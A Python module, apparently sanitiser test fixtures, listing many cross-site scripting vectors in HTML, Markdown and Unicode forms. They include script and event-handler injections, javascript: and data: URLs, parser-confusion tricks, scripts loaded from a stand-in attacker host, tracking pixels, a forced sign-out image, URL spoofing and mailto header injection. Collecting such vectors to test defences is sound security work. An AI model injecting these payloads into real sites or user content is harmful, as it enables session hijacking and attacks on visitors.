"""What people try, to have a page run their script or ask another server: by way of HTML, Markdown and letters."""

HTML = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<img/src=x/onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=`javascript:alert(1)`>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<template><img src=x onerror=alert(1)></template>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src=javascript:alert(1)>
<base href="javascript:/a/-alert(1)///////">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href="https://evil.example/x.css">
<style>@import 'https://evil.example/x.css';</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width: expression(alert(1));">x</div>
<p id=top class=primary style=position:fixed>x</p>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror="alert(1)">
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=" &#14;  javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<isindex type=image src=1 onerror=alert(1)>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>alert(1)</script>
<plaintext><script>alert(1)</script>
</p></div></body></html><script>alert(1)</script>
<b onmouseover=alert(1)>x</b>
<button formaction=javascript:alert(1)>x</button>
'''

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](  javascript:alert(1)  )
[x](javascript&colon;alert(1))
[x](&#106;&#97;vascript:alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))
[x](java%0ascript:alert(1))
[x](java&#10;script:alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](\x01javascript:alert(1))
[x](javascript://example.org/%0aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2Zy8+)
[x](file:///etc/passwd)
[x](blob:https://example.org/1)
[x](//evil.example/x)
[x](\\evil.example\x)
[x](/\evil.example)
[x](https:evil.example)
[x](https:///evil.example)
[x](http:\\evil.example)
[x](https://good.example@evil.example/)
[x](https://good.example%40evil.example/)
[x](https://user:pass@evil.example/)
[x](https://evil.example\@good.example/)
[x](https://good.example&#64;evil.example/)
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](https://a.example/" onmouseover="alert(1))
[x](https://a.example/ "t" onmouseover="alert(1)")
[x](https://a.example/ 'a"><script>alert(1)</script>')
[x](<https://a.example/"onclick=alert(1)//>)
[x]: javascript:alert(1)  and [x]
[![x](https://evil.example/a.png)](javascript:alert(1))
[<img src=x onerror=alert(1)>](https://a.example)
[a[b](javascript:alert(1))](https://a.example)
![x](https://evil.example/pixel.gif)
![x](//evil.example/pixel.gif)
![x](/fr/sign-out/)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x"onerror="alert(1)](https://evil.example/x.png)
![x](picture:../../etc/passwd)
![x](picture:01890000-0000-7000-8000-0000000000ff)
![" onerror="alert(1)](picture:01890000-0000-7000-8000-000000000001)
![<img src=x onerror=alert(1)>](picture:01890000-0000-7000-8000-000000000001)
[x](picture:01890000-0000-7000-8000-000000000001)
<javascript:alert(1)>
<data:text/html,x>
<https://a.example/"onclick="alert(1)>
<https://good.example@evil.example>
<a@b.example?subject=x&body=y>
[x](mailto:a@b.example?cc=c@d.example&body=x)
[x](mailto:a@b.example%0aBcc:c@d.example)
https://a.example/"onmouseover="alert(1)
https://a.example/<script>alert(1)</script>
https://good.example@evil.example/
javascript:alert(1)
http://javascript:alert(1)
`<img src=x onerror=alert(1)>`
``` " onload="alert(1)
~~~<script>alert(1)</script>
@[<img src=x onerror=alert(1)>]
@[" onclick="alert(1)]
@[marie](javascript:alert(1))
[@[marie]](https://a.example)
> [quote:01890000-0000-7000-8000-000000000002"><script>alert(1)</script>]
| <script>alert(1)</script> |
# <script>alert(1)</script>
1<script>. x
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&#x2;m:marie&#x3;
**<b onclick=alert(1)>**
*a*<!--*b*-->
"""

LETTERS = [
    "\x02m:marie\x03 \x02p:01890000-0000-7000-8000-000000000001:x\x03",
    "\x02q:01890000-0000-7000-8000-000000000002\x03",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u202etxet\u202c [x](https://a.example)",
    "[x](java\u0000script:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](https://ex\u0430mple.example/)",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\ud83d<img src=x onerror=alert(1)>",
    "| a | b |\n|---|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> > > <script>alert(1)</script>\n\n- <svg onload=alert(1)>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "[x]:\njavascript:alert(1)\n\n[x][x]",
    "a\n===\n<script>\nalert(1)\n</script>",
]

VECTORS = [line for line in (HTML + MARKDOWN).split("\n") if line] + LETTERS
